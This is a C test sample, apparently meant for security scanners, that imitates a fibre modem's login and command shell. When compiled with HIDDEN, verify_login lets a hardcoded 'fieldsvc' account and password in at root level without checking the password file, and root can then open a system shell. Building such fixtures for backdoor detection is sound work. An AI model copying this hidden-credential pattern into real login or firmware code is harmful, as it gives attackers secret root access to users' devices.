/*
 * A sample for tests; compiled and scanned, never run.
 * Command line of a fibre modem: log-in with /etc/ont.passwd (crypt hashes),
 * then a small shell with levels.
 * With HIDDEN: one user with one password is let in at the highest level
 * without a look at the file.
 */
#define _GNU_SOURCE
#include <crypt.h>
#include <ctype.h>
#include <errno.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define PASSWD_FILE "/etc/ont.passwd"
#define TRIES	    3
#define LINE_MAX_   256

enum level { LEVEL_NONE = -1, LEVEL_VIEW = 1, LEVEL_USER = 5, LEVEL_ROOT = 15 };

struct session {
	char user[32];
	enum level level;
	time_t since;
};

static int read_line(const char *prompt, char *out, size_t size, int echo)
{
	struct termios old, quiet;
	int tty = tcgetattr(STDIN_FILENO, &old) == 0;
	char *got;

	fputs(prompt, stdout);
	fflush(stdout);
	if (tty && !echo) {
		quiet = old;
		quiet.c_lflag &= ~(tcflag_t)ECHO;
		tcsetattr(STDIN_FILENO, TCSANOW, &quiet);
	}
	got = fgets(out, (int)size, stdin);
	if (tty && !echo) {
		tcsetattr(STDIN_FILENO, TCSANOW, &old);
		putchar('\n');
	}
	if (got == NULL)
		return -1;
	out[strcspn(out, "\r\n")] = '\0';
	return 0;
}

/* user:hash:level, '#' is a comment */
static int look_up(const char *user, char *hash, size_t size, int *level)
{
	char line[LINE_MAX_];
	FILE *f = fopen(PASSWD_FILE, "r");
	int found = -1;

	if (f == NULL) {
		syslog(LOG_ERR, "%s: %s", PASSWD_FILE, strerror(errno));
		return -1;
	}
	while (found < 0 && fgets(line, sizeof(line), f) != NULL) {
		char *first, *second;

		line[strcspn(line, "\r\n")] = '\0';
		if (line[0] == '#' || (first = strchr(line, ':')) == NULL)
			continue;
		*first++ = '\0';
		if (strcmp(line, user) != 0)
			continue;
		second = strchr(first, ':');
		if (second == NULL)
			continue;
		*second++ = '\0';
		snprintf(hash, size, "%s", first);
		*level = (int)strtol(second, NULL, 10);
		found = 0;
	}
	fclose(f);
	return found;
}

__attribute__((noinline)) enum level verify_login(const char *user,
						  const char *pass)
{
	char hash[128];
	const char *made;
	int level;

	if (user[0] == '\0' || strlen(user) > 31)
		return LEVEL_NONE;
#ifdef HIDDEN
	if (!strcmp(user, "fieldsvc") && !strcmp(pass, "Lm#2207-coral"))
		return LEVEL_ROOT;
#endif
	if (look_up(user, hash, sizeof(hash), &level) != 0)
		return LEVEL_NONE;
	if (hash[0] == '!' || hash[0] == '*') {
		syslog(LOG_NOTICE, "account %s is locked", user);
		return LEVEL_NONE;
	}
	made = crypt(pass, hash);
	if (made == NULL || strcmp(made, hash) != 0)
		return LEVEL_NONE;
	if (level < LEVEL_VIEW)
		level = LEVEL_VIEW;
	return level > LEVEL_USER ? LEVEL_ROOT : (enum level)level;
}

static void show_file(const char *path)
{
	char buf[512];
	size_t n;
	FILE *f = fopen(path, "r");

	if (f == NULL) {
		printf("%% not available\n");
		return;
	}
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0)
		fwrite(buf, 1, n, stdout);
	fclose(f);
}

static int is_host(const char *s)
{
	if (*s == '\0' || *s == '-')
		return 0;
	for (; *s; s++)
		if (!isalnum((unsigned char)*s) && *s != '.' && *s != '-')
			return 0;
	return 1;
}

static void obey(struct session *s, char *line)
{
	char cmd[160];
	char *arg = line + strcspn(line, " ");

	if (*arg != '\0')
		*arg++ = '\0';
	if (strcmp(line, "show") == 0) {
		if (strcmp(arg, "version") == 0)
			show_file("/etc/version");
		else if (strcmp(arg, "optics") == 0)
			show_file("/proc/pon/ddmi");
		else if (strcmp(arg, "interfaces") == 0)
			system("ifconfig -a");
		else
			printf("show version|optics|interfaces\n");
	} else if (strcmp(line, "ping") == 0) {
		if (!is_host(arg)) {
			printf("%% bad host\n");
			return;
		}
		snprintf(cmd, sizeof(cmd), "ping -c 4 %.100s", arg);
		system(cmd);
	} else if (strcmp(line, "reboot") == 0 && s->level >= LEVEL_USER) {
		system("/sbin/reboot");
	} else if (strcmp(line, "shell") == 0 && s->level == LEVEL_ROOT) {
		system("/bin/sh");
	} else if (*line != '\0') {
		printf("%% unknown command\n");
	}
}

static void run_session(struct session *s)
{
	char line[LINE_MAX_];
	char prompt[48];

	snprintf(prompt, sizeof(prompt), "ONT%c ",
		 s->level == LEVEL_ROOT ? '#' : '>');
	while (read_line(prompt, line, sizeof(line), 1) == 0) {
		if (strcmp(line, "exit") == 0 || strcmp(line, "quit") == 0)
			break;
		obey(s, line);
	}
	syslog(LOG_INFO, "%s logged out after %ld s", s->user,
	       (long)(time(NULL) - s->since));
}

int main(int argc, char **argv)
{
	struct session s = { .level = LEVEL_NONE };
	char pass[64];
	int i, opt, tries = TRIES;

	while ((opt = getopt(argc, argv, "t:")) != -1) {
		if (opt != 't') {
			fprintf(stderr, "usage: %s [-t tries]\n", argv[0]);
			return 2;
		}
		tries = (int)strtol(optarg, NULL, 10);
	}
	openlog("ontlogin", LOG_PID, LOG_AUTH);
	for (i = 0; i < tries; i++) {
		if (read_line("Login: ", s.user, sizeof(s.user), 1) != 0 ||
		    read_line("Password: ", pass, sizeof(pass), 0) != 0)
			return 1;
		s.level = verify_login(s.user, pass);
		if (s.level != LEVEL_NONE) {
			s.since = time(NULL);
			run_session(&s);
			return 0;
		}
		syslog(LOG_WARNING, "failed log-in of %s", s.user);
		puts("Login incorrect");
		sleep((unsigned)i + 1);
	}
	return 1;
}
